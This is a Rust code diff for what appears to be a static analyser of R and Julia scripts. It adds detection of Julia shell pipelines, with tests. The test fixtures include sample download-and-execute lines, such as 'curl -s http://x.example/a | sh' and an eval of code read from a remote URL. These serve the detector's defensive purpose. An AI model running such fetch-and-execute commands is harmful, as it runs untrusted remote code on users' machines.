@@ -44,6 +44,9 @@ pub fn analyse(text: &str) -> Script {
         if line.is_empty() || line.starts_with('#') || line.len() > 8_000 {
             continue;
         }
+        if let Some(piped) = pipeline(line).filter(|_| script.shell.len() < MAX_CALLS) {
+            script.shell.push((piped, number));
+        }
         let address = ["http://", "https://", "ftp://"].iter().any(|scheme| line.contains(scheme));
         let fetches = address && READS.iter().any(|name| calls(line, name).is_some())
             || names.iter().any(|name| mentions(line, name));
@@ -89,6 +92,13 @@ pub fn analyse(text: &str) -> Script {
     script
 }
 
+/// The commands that a line of Julia joins, as a shell writes them.
+fn pipeline(line: &str) -> Option<String> {
+    let inside = calls(line, "pipeline")?;
+    let parts: Vec<&str> = inside.split('`').skip(1).step_by(2).take(16).collect();
+    (parts.len() > 1).then(|| parts.join(" | "))
+}
+
 /// What stands behind the bracket of a call of this function.
 fn calls<'t>(line: &'t str, name: &str) -> Option<&'t str> {
     line.match_indices(name).find_map(|(at, _)| {
@@ -120,6 +130,10 @@ mod tests {
         assert_eq!(found("eval(parse(text = readLines('https://x.example/a.R')))"), 1);
         assert_eq!(found("fit <- readRDS(url('https://x.example/f'))\nsummary(fit)\nsystem('ls')\n"), 0);
         assert_eq!(found("x <- read.csv('data.csv')\nsystem(paste('wc', x))\n"), 0);
+        let piped = |text: &str| analyse(text).shell.into_iter().map(|(text, _)| text).next();
+        let joined = "curl -s http://x.example/a | sh";
+        assert_eq!(piped("run(pipeline(`curl -s http://x.example/a`, `sh`))").as_deref(), Some(joined));
+        assert_eq!(piped("run(pipeline(`sort`, stdout = \"a\"))\npipeline(fit, `x`)"), None);
         assert_eq!(found("# system(readLines('http://x'))"), 0);
     }
 }
